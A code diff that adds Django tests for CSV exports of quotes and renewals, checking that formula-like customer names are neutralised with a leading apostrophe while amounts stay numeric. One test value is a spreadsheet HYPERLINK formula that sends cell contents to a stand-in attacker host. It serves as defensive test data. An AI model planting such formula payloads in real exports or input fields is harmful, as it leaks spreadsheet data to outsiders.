@@ -14,6 +14,7 @@ from django.utils import timezone, translation
 from django_tasks import default_task_backend
 
 from common.errors import DomainError
+from common.formatting import spreadsheet_cell
 from customers import services as customer_services
 from customers.models import LicenseType, PeriodSource
 from quotes import services
@@ -488,3 +489,40 @@ def test_a_customer_with_more_sites_than_an_offer_may_cover_gets_several_offers(
     created = make_batch(staff, sites, django_capture_on_commit_callbacks)
     assert (created.offers, created.installations) == (3, 5)
     assert sorted(item.installations.count() for item in created.batch.items.all()) == [1, 2, 2]
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1;"Klikk her")'
+
+
+def test_a_customer_named_like_a_formula_is_exported_inert_while_amounts_stay_numbers(
+    client, staff, user_a
+):
+    evil = customer_services.customer_create(user=user_a, name=FORMULA)
+    installation = due_installation(evil, "Hovedkontor")
+    offer = services.quote_issue(quote=services.quote_create(
+        customer=evil, installations=[installation], user=user_a), user=staff, prepare_pdf=False)
+    client.force_login(staff)
+
+    offers = read_csv(client.get("/offers/export.csv"))
+    row = next(row for row in offers if row[0] == offer.number)
+    assert row[2] == "'" + FORMULA
+    assert row[6] == str(offer.total_ssc)
+    assert row[7:] == [format(amount, "f").replace(".", ",")
+                       for amount in (offer.net, offer.vat, offer.gross)]
+    assert "," in row[9] and not row[9].startswith("'")
+
+    renewals = read_csv(client.get("/renewals/export.csv"))
+    row = next(row for row in renewals if row[3] == "Hovedkontor")
+    assert row[1] == "'" + FORMULA
+    assert row[6:8] == ["370", "518,00"]  # 5 ports × 74 SSC, 12 months; NOK 1.40 per SSC
+
+
+@pytest.mark.parametrize(("value", "cell"), [
+    ("=1+1", "'=1+1"), ("+47 55 00 00 00", "'+47 55 00 00 00"), ("-2", "'-2"),
+    ("@SUM(A1)", "'@SUM(A1)"), ("\tTab", "'\tTab"), ("\rCR", "'\rCR"),
+    ("Fjordtann AS", "Fjordtann AS"), ("AS=1", "AS=1"), ("", ""), (None, ""),
+    (Decimal("-12.50"), "-12,50"), (-3, "-3"), (Decimal("1036.00"), "1036,00"),
+    (date(2026, 7, 1), "2026-07-01"),
+])
+def test_spreadsheet_cells_neutralise_formulas_but_not_numbers(value, cell):
+    assert spreadsheet_cell(value) == cell
